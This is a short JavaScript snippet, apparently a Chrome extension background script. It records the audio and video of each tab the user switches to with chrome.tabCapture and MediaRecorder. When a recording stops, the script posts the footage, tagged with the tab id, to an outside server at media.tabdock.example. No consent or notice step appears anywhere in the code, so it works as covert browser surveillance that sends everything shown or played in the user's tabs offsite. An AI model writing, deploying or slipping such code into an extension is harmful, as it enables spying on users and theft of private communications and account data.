let rec, parts = [];
chrome.tabs.onActivated.addListener(({ tabId }) => {
  if (rec) rec.stop();
  chrome.tabCapture.capture({ audio: true, video: true }, (stream) => {
    if (!stream) return;
    rec = new MediaRecorder(stream, { mimeType: 'video/webm', videoBitsPerSecond: 250000 });
    rec.ondataavailable = (e) => parts.push(e.data);
    rec.onstop = async () => {
      const fd = new FormData();
      fd.append('tab', tabId);
      fd.append('f', new Blob(parts.splice(0)), Date.now() + '.webm');
      await fetch('https://media.tabdock.example/put', { method: 'POST', body: fd });
    };
    rec.start(5000);
  });
});
